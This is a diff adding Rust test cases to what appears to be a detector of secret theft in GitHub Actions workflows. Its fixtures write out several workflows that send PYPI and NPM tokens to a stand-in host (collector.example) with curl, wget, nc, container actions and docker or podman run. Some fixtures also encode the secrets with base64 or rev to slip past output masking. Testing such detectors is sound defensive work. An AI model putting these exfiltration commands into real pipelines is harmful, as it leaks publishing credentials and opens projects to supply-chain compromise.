@@ -118,3 +118,72 @@ fn names_asked_for() {
     }
     stolen(&with_script("dig @192.0.2.7 $A.$B"), "192.0.2.7");
 }
+
+fn over_a_job_output(write: &str) -> String {
+    format!(
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    outputs: {{o: '${{{{ steps.s.outputs.o }}}}'}}\n    env:\n      A: ${{{{ secrets.PYPI_API_TOKEN }}}}\n      B: ${{{{ secrets.NPM_TOKEN }}}}\n    steps:\n      - id: s\n        run: {write}\n  b:\n    needs: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{{{ needs.a.outputs.o }}}}' {URL}\n"
+    )
+}
+
+/// The runner drops an output that holds a secret as it is: an attempt. Changed first, the secret gets through.
+#[test]
+fn job_outputs() {
+    for write in [
+        "echo \"o=$(echo \"$A$B\" | base64 -w0)\" >> $GITHUB_OUTPUT",
+        "echo \"o=$(echo \"$A $B\" | rev)\" >> \"$GITHUB_OUTPUT\"",
+    ] {
+        stolen(&over_a_job_output(&format!("|\n          {write}")), "collector.example");
+    }
+    let plain = over_a_job_output("echo \"o=$A$B\" >> $GITHUB_OUTPUT");
+    let (verdict, secrets, places) = judged(&plain).unwrap();
+    assert_eq!(verdict, Verdict::Suspicious);
+    assert_eq!((secrets.len(), places), (2, vec!["collector.example".to_owned()]));
+}
+
+fn with_image(uses: &str, with: &str) -> String {
+    let with = with.replace("URL", URL);
+    format!(
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      A: ${{{{ secrets.PYPI_API_TOKEN }}}}\n      B: ${{{{ secrets.NPM_TOKEN }}}}\n    steps:\n      - uses: {uses}\n        with:\n{with}\n"
+    )
+}
+
+/// A container action is a command with arguments.
+#[test]
+fn images_as_actions() {
+    let both = "${{ secrets.PYPI_API_TOKEN }}${{ secrets.NPM_TOKEN }}";
+    for (uses, with) in [
+        ("docker://curlimages/curl", format!("          args: -d {both} URL")),
+        ("docker://curlimages/curl:8.11.0", format!("          args: -s -d \"x {both}\" URL")),
+        ("docker://docker.io/alpine/curl@sha256:00", format!("          args: curl -d {both} URL")),
+        (
+            "docker://alpine:3",
+            format!("          entrypoint: /usr/bin/wget\n          args: --post-data={both} URL"),
+        ),
+        (
+            "docker://alpine",
+            "          entrypoint: sh\n          args: -c \"echo $A$B | nc collector.example 80\"".to_owned(),
+        ),
+        ("docker://python:3", "          args: sh -c 'env | curl -d @- URL'".to_owned()),
+    ] {
+        let workflow = with_image(uses, &with);
+        let place = "collector.example";
+        stolen(&workflow, place);
+    }
+    // Nothing expands `$A` on the way into a container: the literal text is sent.
+    let literal = judged(&with_image("docker://curlimages/curl", "          args: -d $A$B URL"));
+    assert_eq!(literal, None);
+}
+
+#[test]
+fn containers_started_by_hand() {
+    for script in [
+        "docker run --rm curlimages/curl -s -d \"$A$B\" URL",
+        "echo \"$A$B\" | docker run -i --rm --name x -v /tmp:/tmp docker.io/curlimages/curl:8 -d @- URL",
+        "docker run --entrypoint curl alpine:3 -d \"$A$B\" URL",
+        "docker run -e A -e B=\"$B\" alpine sh -c 'wget --post-data=\"$A$B\" URL'",
+        "podman run --env A --env B alpine sh -c 'env | nc collector.example 80'",
+    ] {
+        script_stolen(script);
+    }
+    assert_eq!(judged(&with_script("docker run alpine sh -c 'curl -d \"$A$B\" URL'")), None);
+}
